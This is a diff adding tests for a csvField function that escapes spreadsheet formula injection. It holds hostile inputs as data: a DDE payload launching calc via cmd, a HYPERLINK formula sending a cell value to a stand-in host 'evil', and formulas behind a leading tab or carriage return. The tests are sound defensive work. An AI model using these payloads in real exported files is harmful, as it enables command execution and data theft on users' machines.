@@ -28,4 +28,18 @@ describe('csvField and formulas', () => {
     expect(csvField(-3)).toBe('-3');
     expect(csvField('chat')).toBe('chat');
   });
+  it.each([
+    // Found by a hostile-input walk: a minus and a digit, then a formula, got through.
+    ["-1+cmd|' /C calc'!A0", `'-1+cmd|' /C calc'!A0`],
+    ['-0.5-cmd|x', "'-0.5-cmd|x"],
+    ['-1+HYPERLINK("http://evil/?"&A1)', `"'-1+HYPERLINK(""http://evil/?""&A1)"`],
+    // A leading tab or carriage return before a formula: neutralised (a carriage return also quoted).
+    ['\t=cmd', `'\t=cmd`],
+    ['\r=cmd', `"'\r=cmd"`],
+    ['-7', '-7'],
+    ['-1e-3', '-1e-3'],
+    ['2026-11-30', '2026-11-30'],
+  ])('%j -> %j', (value, written) => {
+    expect(csvField(value)).toBe(written);
+  });
 });
